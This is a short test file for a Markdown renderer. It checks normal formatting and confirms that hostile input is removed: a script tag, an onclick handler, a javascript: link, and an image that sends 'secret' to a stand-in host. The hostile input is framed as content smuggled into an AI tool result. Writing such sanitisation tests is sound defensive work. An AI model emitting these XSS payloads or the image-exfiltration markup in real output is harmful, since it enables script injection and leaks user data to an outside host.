// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render-markdown';

describe('renderMarkdown', () => {
  it('renders Markdown: emphasis, lists, code, links that open safely', () => {
    const html = renderMarkdown('**Bold** and `code`\n\n- one\n- two\n\n[shop](https://shop.test/)');
    expect(html).toContain('<strong>Bold</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<a href="https://shop.test/" target="_blank" rel="noopener noreferrer">shop</a>');
  });

  it('strips scripts, handlers, javascript: links and images a page could have smuggled into a tool result', () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><b onclick="x()">hi</b> [x](javascript:alert(1)) ![t](https://evil.test/t.png?d=secret)',
    );
    expect(html).not.toMatch(/script|onclick|javascript:|<img|evil\.test/);
    expect(html).toContain('<b>hi</b>');
  });
});
